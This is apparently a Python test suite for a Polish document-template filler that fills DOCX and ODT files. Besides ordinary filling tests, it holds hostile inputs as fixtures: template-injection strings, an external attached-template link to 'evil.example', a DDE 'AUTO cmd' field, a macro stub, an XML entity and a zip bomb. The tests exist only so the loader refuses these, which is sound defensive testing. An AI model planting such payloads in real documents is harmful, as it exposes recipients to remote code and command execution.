"""Filling office files: what other programs read in the result."""

from infostrada.site.records.templates.filling import fill
from infostrada.site.records.templates.filling import texts_of
from infostrada.site.records.templates.office import OfficeFault
from infostrada.site.records.templates.office import read_office
from infostrada.site.records.templates.rules import Field
from infostrada.site.records.templates.rules import field_faults
from infostrada.site.records.templates.rules import fields_in
from infostrada.site.records.templates.rules import lines
from lxml import etree

import docx
import importlib.util
import io
import pytest
import zipfile


PARTIES = [
    {"strony.nazwa": "Żaneta Ćwik & Syn", "strony.adres": "ul. Miła 1\n87-600 Lipno"},
    {"strony.nazwa": "<b>Jan</b>", "strony.adres": "Łąkie 2"},
]


def word(*paragraphs, table=()):
    """A DOCX; a paragraph given as a list is cut into runs."""
    made = docx.Document()
    for runs in paragraphs:
        paragraph = made.add_paragraph()
        for run in [runs] if isinstance(runs, str) else runs:
            paragraph.add_run(run)
    if table:
        grid = made.add_table(rows=0, cols=len(table))
        for cell, text in zip(grid.add_row().cells, table, strict=True):
            cell.text = text
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def changed(data, **parts):
    """The zip with parts added or replaced; double underscores stand for slashes."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        named = {name.replace("__", "/").replace("_x", ".x"): content for name, content in parts.items()}
        for name in source.namelist():
            if name not in named:
                target.writestr(name, source.read(name))
        for name, content in named.items():
            target.writestr(name, content)
    return out.getvalue()


def demo(top):
    path = top / "profiles" / "demo" / "templates" / "make.py"
    spec = importlib.util.spec_from_file_location("demo_templates", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return {template["id"]: data for template, data in module.templates()}


def test_a_field_cut_into_runs_is_one_field():
    data = word(["Znak: {", "{sprawa", ".znak}", "} z dnia ", "{{dzis}}"])
    file = read_office(data)
    assert fields_in(texts_of(file)) == [Field("sprawa.znak"), Field("dzis")]
    made = docx.Document(io.BytesIO(fill(file, {"sprawa.znak": "GP.6730.1.2026", "dzis": "28.11.2026"}, [])))
    assert made.paragraphs[0].text == "Znak: GP.6730.1.2026 z dnia 28.11.2026"
    assert [run.text for run in made.paragraphs[0].runs][:2] == ["Znak: GP.6730.1.2026", ""]


def test_a_row_and_a_paragraph_are_repeated_for_every_party():
    data = word(
        "{{strony.nazwa}}, {{strony.adres}}", "koniec", table=("{{strony.nazwa}}", "{{strony.adres}}")
    )
    made = docx.Document(io.BytesIO(fill(read_office(data), {}, PARTIES)))
    assert [item.text for item in made.paragraphs] == [
        "Żaneta Ćwik & Syn, ul. Miła 1\n87-600 Lipno",
        "<b>Jan</b>, Łąkie 2",
        "koniec",
    ]
    rows = [[cell.text for cell in row.cells] for row in made.tables[0].rows]
    assert rows == [["Żaneta Ćwik & Syn", "ul. Miła 1\n87-600 Lipno"], ["<b>Jan</b>", "Łąkie 2"]]


def test_header_and_text_box_are_filled():
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "{{urzad.nazwa}}"
    made.add_paragraph("treść")
    out = io.BytesIO()
    made.save(out)
    filled = docx.Document(io.BytesIO(fill(read_office(out.getvalue()), {"urzad.nazwa": "Gmina"}, [])))
    assert filled.sections[0].header.paragraphs[0].text == "Gmina"


def test_an_odt_keeps_its_spans_and_breaks_lines(top):
    file = read_office(demo(top)["pismo-ogolne"])
    values = {"pole.tresc": "pierwszy\ndrugi\ntrzeci", "sprawa.tytul": "A\nB", "urzad.nazwa": "Gmina"}
    filled = zipfile.ZipFile(io.BytesIO(fill(file, values, [])))
    first = filled.infolist()[0]
    assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
    root = etree.fromstring(filled.read("content.xml"))
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    (paragraph,) = [p for p in root.iter(f"{{{text}}}p") if (p.text or "") == "pierwszy"]
    assert [(etree.QName(node).localname, node.tail) for node in paragraph] == [
        ("line-break", "drugi"),
        ("line-break", "trzeci"),
    ]
    about = next(p for p in root.iter(f"{{{text}}}p") if (p.text or "").startswith("Dotyczy"))
    assert (about.text, about[0].tail) == ("Dotyczy: A", "B")


def test_odt_line_breaks_inside_a_span_and_after_one():
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    content = (
        f'<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:t="{text}">'
        "<t:p>a <t:span>{{pole.</t:span><t:span>x}} b</t:span> c {{pole.y}} d<t:s/>e</t:p>"
        "</o:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        target.writestr("content.xml", content)
    filled = fill(read_office(out.getvalue()), {"pole.x": "1\n2", "pole.y": "3\n4"}, [])
    root = etree.fromstring(zipfile.ZipFile(io.BytesIO(filled)).read("content.xml"))
    (paragraph,) = root.iter(f"{{{text}}}p")
    for node in paragraph.iter(f"{{{text}}}line-break"):
        node.text = "|"
    assert "".join(paragraph.itertext()) == "a 1|2 b c 3|4 de"


def test_a_value_is_text_and_never_another_field():
    file = read_office(word("{{pole.a}} {{pole.b}}"))
    made = docx.Document(io.BytesIO(fill(file, {"pole.a": "{{pole.b}}", "pole.b": "x\x00\x0by"}, [])))
    assert made.paragraphs[0].text == "{{pole.b}} xy"


def test_the_same_case_gives_the_same_bytes(top):
    data = demo(top)["decyzja"]
    assert fill(read_office(data), {}, PARTIES) == fill(read_office(data), {}, PARTIES)
    assert data == demo(top)["decyzja"]


def test_the_demo_templates_have_only_known_fields(top):
    made = demo(top)
    assert len(made) == 6
    for data in made.values():
        texts = texts_of(read_office(data))
        assert field_faults(fields_in(texts), texts) == []
        assert len(fields_in(texts)) > 5


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("{{sprawa.numer}}", "field_unknown"),
        ("{{ sprawa.znak }", "field_malformed"),
        ("{{ cycler.__init__.__globals__ }}", "field_malformed"),
        ("{% for x in y %}{{ 7*7 }}", "field_malformed"),
        ("{{strony}}", "field_unknown"),
    ],
)
def test_what_is_no_field_is_a_fault(text, reason):
    assert [fault for _what, fault in field_faults(fields_in([text]), [text])] == [reason]


HOSTILE_RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ENTITY = '<!DOCTYPE x [<!ENTITY a "b">]><w:document xmlns:w="http://x">&a;</w:document>'


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"%PDF-1.7", "not_an_office_file"),
        (b"PK\x03\x04 broken", "not_an_office_file"),
        (changed(word("x"), word__vbaProject=b"macro"), "template_active"),
        (changed(word("x"), word__embeddings__a=b"ole"), "template_active"),
        (changed(word("x"), word__document_xml=ENTITY.encode()), "template_broken"),
        (changed(word("x"), word__document_xml=b"<a><b></a>"), "template_broken"),
        (changed(word("x"), **{"word___rels__settings.xml.rels": HOSTILE_RELATION}), "template_links"),
    ],
)
def test_hostile_and_broken_files_are_refused(data, reason):
    with pytest.raises(OfficeFault) as caught:
        read_office(data)
    assert caught.value.args[0] == reason


def test_a_field_that_loads_files_is_refused():
    data = word("x")
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        document = source.read("word/document.xml").decode()
    cut = document.replace(
        "<w:t>x</w:t>", "<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"
    )
    with pytest.raises(OfficeFault, match="template_links"):
        read_office(changed(data, word__document_xml=cut.encode()))


def test_a_bomb_is_refused_before_it_is_unpacked():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr("word/document.xml", b"\x00" * 61_000_000)
    with pytest.raises(OfficeFault, match="template_too_large"):
        read_office(out.getvalue())


def test_missing_and_optional_fields():
    fields = [Field("strona.nazwa"), Field("strona.email", True), Field("pole.x"), Field("strony.nazwa")]
    found = lines(fields, {"strona.nazwa": "Jan"}, 0, {})
    assert [(line.state, line.asked) for line in found] == [
        ("filled", False),
        ("empty", False),
        ("missing", True),
        ("missing", False),
    ]
    given = lines(fields, {}, 2, {"pole.x": " tak ", "strona.nazwa": "Ewa"})
    assert [line.value for line in given] == ["Ewa", "", "tak", "2"]


def test_fields_that_are_asked_for_are_called_as_people_write():
    """Names in Polish letters stand as they are; usual ones written without them get them back."""
    fields = fields_in(
        ["{{pole.treść}} {{pole.tresc?}} {{pole.ilość_osób}} {{pole.rozstrzygniecie}} {{pole.kwota}}"]
    )
    assert [field.name for field in fields][:3] == ["pole.treść", "pole.tresc", "pole.ilość_osób"]
    assert [line.label for line in lines(fields, {}, 0, {})] == [
        "Treść",
        "Treść",
        "Ilość osób",
        "Rozstrzygnięcie",
        "Kwota",
    ]
    assert field_faults(fields, []) == []
    assert field_faults(fields_in(["{{sprawa.treść}}"]), []) == [("sprawa.treść", "field_unknown")]
